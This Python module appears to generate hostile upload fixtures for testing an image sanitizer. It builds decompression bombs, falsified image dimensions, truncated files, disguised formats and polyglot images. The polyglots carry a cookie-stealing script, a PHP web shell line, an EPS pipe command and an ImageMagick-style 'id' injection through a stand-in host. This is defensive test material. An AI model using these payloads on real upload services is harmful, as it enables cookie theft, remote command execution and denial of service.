"""Files that a stranger may send instead of a photo, 20 of each kind, the same for the same seed."""

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from pathlib import Path

from PIL import Image, ImageDraw, PngImagePlugin

EACH = 20
PAYLOAD = b"<script>fetch('/take?'+document.cookie)</script>"  # must be in nothing that we make
PNG_START = b"\x89PNG\r\n\x1a\n"
MEGABYTE = 1 << 20
FORMATS = ("JPEG", "PNG", "WEBP")

Maker = Callable[[random.Random, int], bytes]


def hostile(kind: str, seed: int = 410811) -> list[bytes]:
    """The files of one of `KINDS`."""
    drawn = random.Random(f"{kind} {seed}")
    return [KINDS[kind](drawn, number) for number in range(EACH)]


def peak_megabytes(process: int) -> float:
    """The most memory that this process ever held, resident (Linux). A parent's is not counted, as getrusage would."""
    said = Path(f"/proc/{process}/status").read_text()
    return int(next(line.split()[1] for line in said.splitlines() if line.startswith("VmHWM"))) / 1024


def told(jpeg: bytes) -> set[int]:
    """The markers of the parts of a JPEG. Fails where it does not end with its picture."""
    found, at = {0xD8}, 2
    while jpeg[at + 1] != 0xDA:  # start of scan: nothing but the picture follows
        found.add(jpeg[at + 1])
        at += 2 + int.from_bytes(jpeg[at + 2 : at + 4], "big")
    assert jpeg.index(b"\xff\xd9", at) == len(jpeg) - 2
    return found


def is_plain(jpeg: bytes) -> bool:
    """A JPEG of nothing but its picture: JFIF's own header, tables, one frame."""
    return jpeg.startswith(b"\xff\xd8") and told(jpeg) <= {0xD8, 0xE0, 0xDB, 0xC0, 0xC4} and PAYLOAD not in jpeg


def photo(kind: str = "JPEG", size: tuple[int, int] = (640, 480), **options: object) -> bytes:
    """An honest picture that does not compress to nothing."""
    picture = Image.linear_gradient("L").resize(size).convert("RGB")
    ImageDraw.Draw(picture).rectangle((0, 0, size[0] // 2, size[1] // 2), fill="orange")
    return saved(picture, kind, **options)


def saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    """The picture as a file of that kind."""
    written = io.BytesIO()
    picture.save(written, kind, **options)
    return written.getvalue()


def png(width: int, height: int, *chunks: bytes, data: bytes | None = None, depth: int = 8, colour: int = 2) -> bytes:
    """A PNG put together by hand: `chunks` before the data, which is one line of zeros unless given."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    body = zlib.compress(bytes(1 + width * 3)) if data is None else data
    return PNG_START + header + b"".join(chunks) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def chunk(name: bytes, data: bytes) -> bytes:
    """One part of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def zeros(megabytes: int) -> bytes:
    """A zlib stream that unpacks to so much nothing: one block, repeated, and the checksum of zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = ((megabytes * MEGABYTE % 65521) << 16) | 1
    return b"\x78\xda" + block * megabytes + packer.flush() + struct.pack(">I", checksum)


def segment(marker: int, data: bytes) -> bytes:
    """One part of a JPEG before its picture."""
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def webp_parts(*parts: tuple[bytes, bytes]) -> bytes:
    """A WebP put together by hand."""
    body = b"".join(name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2) for name, data in parts)
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def _hundred_megapixels(drawn: random.Random, number: int) -> bytes:
    """Of 100 million pixels: really so, or so by the header."""
    if number < 2:
        return saved(Image.new("L", (10_000, 10_000), "gray"), FORMATS[number])
    width = drawn.randrange(6_200, 16_000)
    height = 100_000_000 // width + 1
    if number % 3 == 0:
        whole = photo()
        frame = whole.index(b"\xff\xc0")
        return whole[: frame + 5] + struct.pack(">HH", height, width) + whole[frame + 9 :]
    if number % 3 == 1:
        return png(width, height, data=zeros(300))
    return _large_webp(number, width, height)


def _large_webp(number: int, width: int, height: int) -> bytes:
    """In one of the three ways in which a WebP tells its size: lossless, lossy, with a canvas."""
    lossless, lossy = photo("WEBP", lossless=True), photo("WEBP")
    size = struct.pack("<I", (height - 1) << 14 | width - 1 | int.from_bytes(lossless[21:25], "little") & 0xF0000000)
    ways = (
        lossless[:21] + size + lossless[25:],
        lossy[:26] + struct.pack("<HH", width, height) + lossy[30:],
        webp_parts(
            (b"VP8X", bytes(4) + struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]),
            (b"VP8L", lossless[20:21] + size + lossless[25:]),
        ),
    )
    return ways[number // 3 % 3]


def _truncated(drawn: random.Random, number: int) -> bytes:
    whole = photo(FORMATS[number % 3], progressive=number % 2 == 0)
    return whole[: drawn.randrange(1, len(whole))]


def _zipped(name: str) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as packed:
        packed.writestr(name, PAYLOAD)
    return written.getvalue()


@cache
def _strange() -> tuple[bytes, ...]:
    """Of other kinds than pictures that we read, whatever their names say."""
    picture = Image.new("RGB", (40, 30), "green")
    others = [saved(picture, kind) for kind in ("GIF", "BMP", "TIFF", "ICO", "PPM", "TGA", "PDF", "EPS")]
    boxes = [struct.pack(">I", 24) + b"ftyp" + brand + bytes(12) for brand in (b"heic", b"avif", b"isom")]
    written = [
        b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%touch taken) (w) file\n",
        b"<svg xmlns='http://www.w3.org/2000/svg'>" + PAYLOAD + b"</svg>",
        b"<!doctype html>" + PAYLOAD,
        b"push graphic-context\nfill 'url(https://taken.example/\"|id\")'\npop graphic-context\n",
        b"\x7fELF" + bytes(200),
        gzip.compress(PAYLOAD, mtime=0),
    ]
    return (*others, *boxes, *written, _zipped("word/document.xml"), b"JFIF Exif a photo, truly", b"\xff\xd8\xff")


def _renamed(_: random.Random, number: int) -> bytes:
    return _strange()[number]


def _polyglot(drawn: random.Random, number: int) -> bytes:
    """A picture that is read as one, and something else besides: behind it, in comments, in metadata."""
    behind = (_zipped("Taken.class"), PAYLOAD, b"<?php system($_GET['c']); ?>" + PAYLOAD, b"*/=1;" + PAYLOAD)
    exif = Image.Exif()
    exif[0x010E] = PAYLOAD.decode()
    exif[0x8825] = {1: "N", 2: (35.0, 14.0, 30.0)}  # where it was taken
    if number < 12:
        return photo(FORMATS[number % 3]) + bytes(drawn.randrange(100)) + behind[number // 3]
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", PAYLOAD.decode(), zip=number % 2 == 0)
    text.add_itxt("XML:com.adobe.xmp", PAYLOAD.decode())
    whole = photo()
    ways: tuple[Callable[[], bytes], ...] = (
        lambda: whole[:2] + segment(0xFE, PAYLOAD) + whole[2:],
        lambda: whole[:2] + segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + PAYLOAD) + whole[2:],
        lambda: whole[:2] + segment(0xEF, b"/*" + PAYLOAD + b"*/") + whole[2:],
        lambda: photo(exif=exif, icc_profile=PAYLOAD, comment=PAYLOAD),
        lambda: photo("PNG", pnginfo=text, exif=exif),
        lambda: photo("PNG", pnginfo=text, icc_profile=PAYLOAD),
        lambda: photo("WEBP", exif=exif, xmp=PAYLOAD, icc_profile=PAYLOAD),
        lambda: photo("WEBP", xmp=PAYLOAD) + _zipped("Taken.class"),
    )
    return ways[number - 12]()


def _many_scans(times: int) -> bytes:
    """A JPEG that refines its picture again and again."""
    whole = photo(size=(800, 600), progressive=True)
    last = whole.rindex(b"\xff\xda")
    return whole[:last] + whole[last:-2] * times + whole[-2:]


def _frames(kind: str, count: int) -> bytes:
    frames = [Image.new("RGB", (64, 64), (number % 256, number // 256, 7)) for number in range(count)]
    return saved(frames[0], kind, save_all=True, append_images=frames[1:], duration=1)


def _looping_exif() -> bytes:
    """EXIF whose list of tags goes on with itself."""
    tags = b"II*\0\x08\0\0\0" + struct.pack("<HHHII", 1, 0x8769, 4, 1, 8) + struct.pack("<I", 8)
    whole = photo()
    return whole[:2] + segment(0xE1, b"Exif\0\0" + tags) + whole[2:]


BOMBS: tuple[Callable[[], bytes], ...] = (
    lambda: png(8, 8, data=zeros(2_000)),
    lambda: png(6_000, 6_000, data=zeros(3_000)),
    lambda: png(6_300, 6_300, data=zeros(400), depth=16, colour=6),  # within the caps, and as much as a PNG can be
    lambda: png(39_000_000, 1, data=zeros(200)),
    lambda: png(1, 39_000_000, data=zeros(200)),
    lambda: png(8, 8, chunk(b"zTXt", b"Comment\0\0" + zeros(1_500))),
    lambda: png(8, 8, *[chunk(b"zTXt", b"Comment\0\0" + zeros(60))] * 60),
    lambda: png(8, 8, chunk(b"iTXt", b"Comment\0\1\0\0\0" + zeros(1_500))),
    lambda: png(8, 8, chunk(b"iCCP", b"icc\0\0" + zeros(1_500))),
    lambda: png(8, 8, *[chunk(b"tEXt", b"k\0" + bytes(100))] * 50_000),
    lambda: png(8, 8, chunk(b"acTL", struct.pack(">II", 0x7FFFFFFF, 0))),
    lambda: _frames("PNG", 1_500),
    lambda: _frames("WEBP", 1_500),
    lambda: saved(Image.new("RGB", (6_300, 6_300)), "WEBP", lossless=True, method=0, quality=0),
    lambda: saved(Image.new("RGBA", (6_300, 6_300), "#ff000080"), "WEBP", method=0),
    lambda: saved(Image.new("CMYK", (6_300, 6_300)), "JPEG", progressive=True),
    lambda: _many_scans(400),
    lambda: photo()[:2] + segment(0xE1, b"Exif\0\0" + bytes(60_000)) * 150 + photo()[2:],
    lambda: photo()[:2] + segment(0xE2, b"ICC_PROFILE\0\1\xff" + bytes(60_000)) * 150 + photo()[2:],
    _looping_exif,
)


def _bomb(_: random.Random, number: int) -> bytes:
    return BOMBS[number]()


KINDS: Mapping[str, Maker] = {
    "100-megapixel": _hundred_megapixels,
    "truncated": _truncated,
    "renamed": _renamed,
    "polyglot": _polyglot,
    "bomb": _bomb,
}
